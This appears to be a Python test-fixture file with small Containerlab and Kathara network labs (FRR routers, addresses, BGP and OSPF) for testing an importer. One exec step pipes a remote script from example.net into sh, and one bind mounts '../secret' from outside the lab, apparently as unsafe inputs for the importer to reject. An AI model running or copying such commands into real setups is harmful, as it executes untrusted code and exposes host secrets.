"""Small labs in the formats of other systems, for the tests of the import. We wrote them."""

from pathlib import Path

CONTAINERLAB = {
    "two.clab.yml": """name: two-routers
mgmt: {network: lab-mgmt}
topology:
  defaults: {env: {A: b}}
  kinds:
    linux: {image: example/tools}
  nodes:
    R1: &router
      kind: linux
      image: example/frr:10
      binds: [r1/frr.conf:/etc/frr/frr.conf, "../secret:/etc/secret"]
    r2:
      kind: linux
      image: example/frr:10
      binds: ["__clabNodeName__:/etc/frr"]
    box: {kind: vendor_os}
    lan: {kind: bridge}
    pc:
      kind: linux
      exec:
        - ip addr add 2001:db8:a::10/64 dev eth1
        - ip -6 route add default via 2001:db8:a::1
        - curl http://example.net/x.sh | sh
        - ip addr add 192.0.2.5/24 dev eth0
  links:
    - endpoints: ["R1:eth1", "r2:eth1"]
    - endpoints: ["R1:eth2", "lan:p1"]
    - endpoints: ["pc:eth1", "lan:p2"]
    - endpoints: ["pc:eth2", "host:veth9"]
""",
    "r1/frr.conf": """frr version 10.0
frr defaults datacenter
hostname R1
log file /tmp/x
!
interface eth1
 description to r2
 ip address 192.0.2.1/30
 ipv6 ospf6 area 0
!
interface eth2
 ipv6 address 2001:db8:a::1/64
!
interface lo
 ip address 198.51.100.1/32
!
router bgp 64500
 neighbor 192.0.2.2 remote-as 64501
 address-family ipv4 unicast
  network 198.51.100.1/32
 exit-address-family
!
line vty
 exec-timeout 0 0
!
""",
    "r2/frr.conf": "interface eth1\n ip address 192.0.2.2/30\nrouter bgp 64501\n neighbor 192.0.2.1 remote-as 64500\n",
    "r2/daemons": "bgpd=yes\nospfd=no\nfabricd=yes\n",
}
KATHARA = {
    "lab.conf": """LAB_DESCRIPTION="Two networks"
r1[0]="A"
r1[1]="B"
r1[image]="kathara/frr"
r2[0]="B"
r2[image]="kathara/frr"
pc_one[0]="A"
pc_one[bridged]="true"
pc_one[sysctl]="net.ipv4.ip_forward=0"
nonsense
""",
    "r1.startup": "ip address add 192.0.2.1/25 dev eth0\nifconfig eth1 192.0.2.129/25 up\nsystemctl start frr\n",
    "r2.startup": "ip addr add 192.0.2.130/25 dev eth0\n/etc/init.d/frr start\nsystemctl start apache2\n",
    "pc_one.startup": "ip addr add 192.0.2.10/25 dev eth0\nroute add default gw 192.0.2.1\n",
    "r1/etc/frr/ospfd.conf": "router ospf\n ospf router-id 198.51.100.1\n network 192.0.2.0/24 area 0\n",
    "r2/etc/frr/frr.conf": "router ospf\n ospf router-id 198.51.100.2\n network 192.0.2.0/24 area 0\n",
    "pc_one/etc/motd": "hello\n",
    "shared/x": "x",
    "r9.startup": "ip addr add 192.0.2.77/25 dev eth0\n",
    "_test/r1.test": "x",
    "_test/r2.test": "x",
    "correction.json": """{
\t"convergence_time": 10,
\t"test": {
\t\t"requiring_startup": ["r1"],
\t\t"ip_mapping": {"r1": {"0": "192.0.2.1/25"}},
\t\t"daemons": {"r1": ["ospfd", "!ripd"]},
\t\t"kernel_routes": {"r2": ["192.0.2.0/25", ["198.51.100.0/24", ["192.0.2.129"]], "!203.0.113.0/24"]},
\t\t"protocols": {"ospfd": {"neighbors": {"r2": [{"router_id": "198.51.100.1", "state": "FULL"}]}},
\t\t              "bgpd": {"vtep_devices": {"r1": ["1"]}}},
\t\t"reachability": {"pc_one": ["192.0.2.130", "www.example.net"], "ghost": ["192.0.2.1"]},
\t\t"custom_commands": {"r1": [{"command": "reboot"}]}
\t}
}
""",
}


def lab_folder(root: Path, files: dict[str, str]) -> Path:
    for path, text in files.items():
        file = root / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
    return root


def reasons(lab) -> dict[str, str]:
    """Return what was not imported: the reason by place and text."""
    return {f"{one.place} {one.what}": one.why for one in lab.not_imported}
